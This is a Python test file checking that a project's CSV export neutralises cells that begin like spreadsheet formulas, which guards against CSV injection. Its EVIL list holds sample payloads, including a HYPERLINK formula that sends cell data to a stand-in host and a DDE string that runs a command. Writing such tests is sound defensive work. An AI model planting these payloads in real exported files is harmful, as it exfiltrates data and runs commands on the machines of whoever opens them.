"""CSV in which a spreadsheet finds no formula, whoever named the models and tasks."""

import csv
import io

import numpy as np
import pytest

from ream.analysis.tables.csv_rows import csv_of
from ream.analysis.tables.formats import csv_text
from ream.analysis.tables.metrics import plot_csv
from ream.analysis.tables.results import flat_csv
from ream.analysis.tables.table import Column, Table
from tests.analysis.tables.test_results import CELLS

EVIL = [
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    " =1",
    "\n@1",
    "-",
]


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_carriage_return_breaks_no_row():
    assert read(csv_of([["a\rb", "\r=1"], ["c", "d"]])) == [["a b", "' =1"], ["c", "d"]]


@pytest.mark.parametrize("text", EVIL)
def test_text_that_begins_like_a_formula_is_quoted(text):
    assert read(csv_of([["x", text]])) == [["x", f"'{text}"]]
    column = Table("t", "", (Column(text),), ((text,),))
    assert read(csv_text(column)) == [[f"'{text}"], [f"'{text}"]]
    cells = [cell.model_copy(update={"mix": text, "method": text}) for cell in CELLS]
    for made in (flat_csv(cells), plot_csv(cells)):
        assert not [field for row in read(made) for field in row if field == text]
        assert [field for row in read(made) for field in row if field == f"'{text}"]


@pytest.mark.parametrize("value", [-1.5, -2, np.float64(-0.25), "-1.5", "+3e-5", "a=b", "x-1", "", "'=1", "−1"])
def test_numbers_and_other_text_stay_as_they_are(value):
    assert read(csv_of([["x", value]])) == [["x", str(value)]]
